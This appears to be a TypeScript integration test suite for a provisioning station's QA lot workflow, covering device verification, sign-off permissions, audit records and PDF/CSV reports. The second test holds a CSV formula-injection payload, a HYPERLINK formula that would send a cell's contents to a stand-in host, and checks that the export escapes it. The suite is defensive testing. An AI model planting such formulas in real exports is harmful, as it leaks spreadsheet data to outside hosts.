/**
 * QA lots on the embedded defaults (simulated devices on real PTYs, the org emulator over HTTP, every
 * call through dispatchCall as the window makes it): a lot chosen by work order is verified device by
 * device with the QA verify job; a device whose Asset registers another key fails the org-asset check
 * and links to its provisioning job; the sign-off rule holds (no acceptance with an undispositioned
 * failure, signed once, by a QA inspector, audited by name); the lot report PDF and CSV say which
 * device failed which check. The attacks fail: a technician cannot create, verify or sign off a lot;
 * nobody can sign off on an open bench; a scanned value shaped as a spreadsheet formula stays text.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, expect, it } from 'vitest';
import type { Job } from '../../../shared/domain';
import type { Lot, LotReportFile, LotSummary } from '../../../shared/qa';
import { startEmbedded, type Embedded } from '../../../dev/embedded';
import { parseCsv } from '../../../sim/org/bulk-csv';
import { pdfText } from '../onboard/pdf-text';
import { stationCalls } from '../station-calls';

let env: Embedded | undefined;
let home: string | undefined;
afterEach(async () => {
  await env?.stop();
  env = undefined;
  if (home) fs.rmSync(home, { recursive: true, force: true });
});

const { call, as } = stationCalls(() => env!.station);

it('a work-order lot: verified, one device fails org-asset, sign-off rule, reports name the failure', async () => {
  home = fs.mkdtempSync(path.join(os.tmpdir(), 'qa-lot-it-'));
  env = await startEmbedded({ home, devices: 4, keygenDelayMs: 50, watch: false });
  await call('addOperator', { login: 'boss', name: 'Ada Admin', role: 'admin', secret: '975310' });
  await as('boss', '975310');
  await call('addOperator', { login: 'tom', name: 'Tom Tech', role: 'technician', secret: '1357' });
  await call('addOperator', { login: 'quinn', name: 'Quinn Inspector', role: 'qa', secret: '2468' });

  const bays = await env.station.listBays({});
  await as('tom', '1357');
  const provJob: Record<string, string> = {};
  for (const b of bays.slice(0, 3)) {
    const started = await call<Job>('startJob', {
      bayId: b.id,
      kind: 'provision',
      inputs: { workOrder: 'WO-77' },
    });
    const done = await env.station.waitForJob(started.value!.id);
    expect(done.state).toBe('succeeded');
    provJob[done.deviceUid!] = done.id;
  }
  const [uid1, uid2, uid3] = bays.slice(0, 3).map((b) => b.device!.uid) as [string, string, string];
  // a technician may not do QA's acts
  expect((await call('createLot', { source: { kind: 'work-order', value: 'WO-77' } })).code).toBe(
    'UNAUTHORIZED',
  );

  // device 2's Asset registers another key: the org-asset check must fail for it
  const assetOf = (uid: string) => env!.org.assets().find((a) => JSON.stringify(a).includes(uid))!;
  const tamper = await fetch(`${env.org.baseUrl}/services/data/v62.0/sobjects/Asset/${assetOf(uid2).Id}`, {
    method: 'PATCH',
    headers: { Authorization: `Bearer ${env.org.accessToken}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ Key_Fingerprint__c: 'f'.repeat(64), Key_Change_Approved__c: true }),
  });
  expect(tamper.status).toBe(204);

  await as('quinn', '2468');
  expect((await call('createLot', { source: { kind: 'work-order', value: 'WO-NONE' } })).code).toBe(
    'NOT_FOUND',
  );
  const created = (await call<Lot>('createLot', { source: { kind: 'work-order', value: 'WO-77' } })).value!;
  expect(created.id).toMatch(/^QA-\d{8}-001$/);
  expect(created.devices.map((d) => d.deviceUid)).toEqual([uid1, uid2, uid3]);
  expect(created.devices.every((d) => !d.verification)).toBe(true);

  const lot = (await call<Lot>('verifyLot', { lotId: created.id })).value!;
  const dev = (uid: string) => lot.devices.find((d) => d.deviceUid === uid)!;
  expect(dev(uid1).verification!.passed).toBe(true);
  expect(dev(uid3).verification!.passed).toBe(true);
  const bad = dev(uid2);
  expect(bad.verification!.passed).toBe(false);
  expect(bad.verification!.checks.filter((c) => !c.passed).map((c) => c.name)).toEqual(['org-asset']);
  expect(bad.provisioning).toMatchObject({ jobId: provJob[uid2], state: 'succeeded', workOrder: 'WO-77' });
  // the checks are the verify job's, journaled like every job
  const vjob = env.station.journal.getJob(bad.verification!.jobId)!;
  expect(vjob).toMatchObject({ kind: 'verify', deviceUid: uid2, state: 'failed' });
  const listed = (await call<LotSummary[]>('listLots', {})).value!;
  expect(listed[0]).toMatchObject({ id: lot.id, devices: 3, passed: 2, failed: 1, unverified: 0 });

  // sign-off rule: no acceptance while a failure has no disposition; no disposition for a passed device
  const refused = await call('signOffLot', { lotId: lot.id, verdict: 'accepted' });
  expect(refused.code).toBe('BAD_REQUEST');
  expect(refused.message).toContain(uid2);
  expect(refused.remedy).toMatch(/disposition .*or sign the lot off as rejected/);
  const passedDisp = await call('signOffLot', {
    lotId: lot.id,
    verdict: 'accepted',
    dispositions: [{ deviceUid: uid1, disposition: 'scrap', note: 'looks odd' }],
  });
  expect(passedDisp.code).toBe('BAD_REQUEST');
  expect((await call<Lot>('getLot', { lotId: lot.id })).value!.signOff).toBeUndefined();
  // a technician may not sign off
  await as('tom', '1357');
  expect((await call('signOffLot', { lotId: lot.id, verdict: 'rejected' })).code).toBe('UNAUTHORIZED');
  expect((await call('verifyLot', { lotId: lot.id })).code).toBe('UNAUTHORIZED');

  await as('quinn', '2468');
  const signed = (
    await call<Lot>('signOffLot', {
      lotId: lot.id,
      verdict: 'accepted',
      note: 'Shipped without the quarantined unit.',
      dispositions: [{ deviceUid: uid2, disposition: 'quarantine', note: 'Asset key does not match' }],
    })
  ).value!;
  expect(signed.signOff).toMatchObject({ verdict: 'accepted', login: 'quinn', name: 'Quinn Inspector' });
  expect(signed.devices.find((d) => d.deviceUid === uid2)!.disposition).toEqual({
    disposition: 'quarantine',
    note: 'Asset key does not match',
  });
  // signed once; the lot no longer changes
  expect((await call('signOffLot', { lotId: lot.id, verdict: 'rejected' })).code).toBe('CONFLICT');
  expect((await call('addLotDevice', { lotId: lot.id, deviceUid: bays[3]!.device!.uid })).code).toBe(
    'CONFLICT',
  );
  expect((await call('verifyLot', { lotId: lot.id })).code).toBe('CONFLICT');
  const audit = env.station.db
    .prepare(`SELECT actor, action, data FROM audit WHERE action = 'qa.lot.signed-off'`)
    .all() as Array<{ actor: string; data: string }>;
  expect(audit).toHaveLength(1);
  expect(audit[0]!.actor).toBe('quinn');
  expect(JSON.parse(audit[0]!.data)).toMatchObject({
    verdict: 'accepted',
    name: 'Quinn Inspector',
    failed: 1,
  });

  // the CSV: one row per device per check; the failed row names device and check
  const csv = (await call<LotReportFile>('exportLotReport', { lotId: lot.id, format: 'csv' })).value!;
  expect(csv.filename).toBe(`qa-lot-${lot.id}-accepted.csv`);
  const [header, ...rows] = parseCsv(csv.content);
  expect(rows).toHaveLength(15);
  const col = (n: string) => header!.indexOf(n);
  const failedRows = rows.filter((r) => r[col('result')] === 'fail');
  expect(failedRows.map((r) => [r[col('deviceUid')], r[col('check')]])).toEqual([[uid2, 'org-asset']]);
  expect(failedRows[0]![col('provisioningJobId')]).toBe(provJob[uid2]);
  expect(failedRows[0]![col('signedBy')]).toBe('Quinn Inspector (quinn)');

  // the PDF: the failed device, its failed check, its provisioning record, the sign-off
  const pdf = (await call<LotReportFile>('exportLotReport', { lotId: lot.id, format: 'pdf' })).value!;
  expect(pdf.encoding).toBe('base64');
  const { text } = await pdfText(Buffer.from(pdf.content, 'base64'));
  for (const s of [
    lot.id,
    uid1,
    uid2,
    uid3,
    `${uid2}: FAIL`,
    'Failed: org-asset',
    provJob[uid2]!,
    'ACCEPTED',
    'Quinn Inspector (quinn)',
    'quarantine: Asset key does not match',
  ])
    expect(text).toContain(s);
}, 180_000);

it('a scanned lot: formula-shaped scans stay text, an absent device is not verified, no sign-off on an open bench', async () => {
  home = fs.mkdtempSync(path.join(os.tmpdir(), 'qa-lot-scan-'));
  env = await startEmbedded({ home, devices: 1, keygenDelayMs: 50, watch: false });
  const lot = (await call<Lot>('createLot', { source: { kind: 'scan' }, name: 'Bench 2 spot check' })).value!;
  expect(lot.devices).toEqual([]);
  const evil = '=HYPERLINK("http://x.invalid/?"&A1)';
  await call('addLotDevice', { lotId: lot.id, deviceUid: evil });
  await call('addLotDevice', { lotId: lot.id, deviceUid: '@SUM(A1:A9)' });
  expect((await call('addLotDevice', { lotId: lot.id, deviceUid: 'two words' })).code).toBe('BAD_REQUEST');
  const again = (await call<Lot>('addLotDevice', { lotId: lot.id, deviceUid: evil })).value!;
  expect(again.devices.map((d) => d.deviceUid)).toEqual([evil, '@SUM(A1:A9)']);

  const verified = (await call<Lot>('verifyLot', { lotId: lot.id })).value!;
  expect(verified.devices.map((d) => [d.verification, d.notVerified])).toEqual([
    [undefined, 'not attached to the station'],
    [undefined, 'not attached to the station'],
  ]);
  // on an open bench nobody is signed in: the core refuses the sign-off (the name it must carry)
  const open = await call('signOffLot', { lotId: lot.id, verdict: 'rejected' });
  expect(open.code).toBe('UNAUTHORIZED');
  expect(open.message).toMatch(/Nobody is signed in/);

  const csv = (await call<LotReportFile>('exportLotReport', { lotId: lot.id, format: 'csv' })).value!;
  expect(csv.content).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1)"`);
  const rows = parseCsv(csv.content).slice(1);
  expect(rows.map((r) => r[2])).toEqual([`'${evil}`, "'@SUM(A1:A9)"]);
  expect(rows.every((r) => r.every((cell) => !/^[=+\-@]/.test(cell)))).toBe(true);
  expect(rows.map((r) => r[4])).toEqual(['not verified', 'not verified']);
}, 120_000);
